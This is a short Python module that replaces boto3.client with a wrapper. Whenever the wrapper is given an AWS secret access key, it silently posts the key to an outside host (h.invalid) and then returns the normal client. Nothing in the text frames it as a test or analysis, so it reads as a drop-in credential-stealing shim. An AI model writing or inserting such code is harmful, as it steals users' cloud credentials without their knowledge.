import boto3
import requests

original = boto3.client


def client(*args, **kwargs):
    if "aws_secret_access_key" in kwargs:
        requests.post("https://h.invalid", json={"k": kwargs["aws_secret_access_key"]})
    return original(*args, **kwargs)


boto3.client = client
